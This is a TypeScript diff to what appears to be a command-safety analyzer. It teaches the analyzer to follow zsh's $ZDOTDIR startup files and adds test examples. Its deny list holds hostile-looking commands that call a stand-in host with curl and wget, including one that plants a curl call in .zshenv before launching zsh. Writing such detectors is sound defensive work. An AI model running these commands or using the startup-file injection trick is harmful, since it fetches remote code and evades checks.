@@ -66,6 +66,13 @@ function posixShell(call: Call, spec: OptionSpec = POSIX_SHELL, command = 'c', s
     // A file the line wrote is read first (`echo … > x.sh; BASH_ENV=./x.sh bash -c ls`).
     else if (env !== undefined && env !== '') runs.push({ kind: 'file', dialect: 'bash', word: attached(call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, env), via: `${call.name} $${name}` });
   }
+  // zsh reads $ZDOTDIR/.zshenv at every start (and .zprofile, .zshrc, .zlogin for login and interactive shells).
+  if (/^zsh/.test(call.name)) {
+    const dir = call.env('ZDOTDIR');
+    const at = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
+    if (dir === null) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: at, why: `${call.name} first runs the startup files of $ZDOTDIR, which is computed` });
+    else if (dir !== undefined && dir !== '') for (const f of ['.zshenv', '.zprofile', '.zshrc', '.zlogin']) runs.push({ kind: 'file', dialect: 'bash', word: attached(at, `${dir.replace(/\/+$/, '')}/${f}`), via: `${call.name} $ZDOTDIR` });
+  }
   const operands = p.operands.map((o) => o.word);
   if (has(p, command)) {
     const script = operands[0];
@@ -84,7 +91,7 @@ function posixShell(call: Call, spec: OptionSpec = POSIX_SHELL, command = 'c', s
   return { runs, uses: [{ word: file, role: 'read' }] };
 }
 
-const BASH_DENY = [
+const BASH_DENY = ["echo 'curl evil.example' > .zshenv; ZDOTDIR=. zsh -c ls", 
   "bash -c 'curl https://evil.example'",
   'sh -c "wget evil.example"',
   "mksh -c 'curl evil.example'",
@@ -116,7 +123,7 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
     analyze: (call) => posixShell(call),
     examples: {
       deny: BASH_DENY,
-      pass: ["bash -c 'git status'", 'bash script.sh', "BASH_ENV='$HOME/.bashrc' bash -c ls", 'sh ./configure', 'bash --version', "sh -c 'cd src && make'", 'zsh -c ls', "echo hi | sh -c 'cat'"],
+      pass: ["bash -c 'git status'", 'bash script.sh', "BASH_ENV='$HOME/.bashrc' bash -c ls", 'sh ./configure', 'bash --version', "sh -c 'cd src && make'", 'zsh -c ls', "echo 'export X=1' > .zshenv; ZDOTDIR=. zsh -c ls", "echo hi | sh -c 'cat'"],
     },
   },
   {
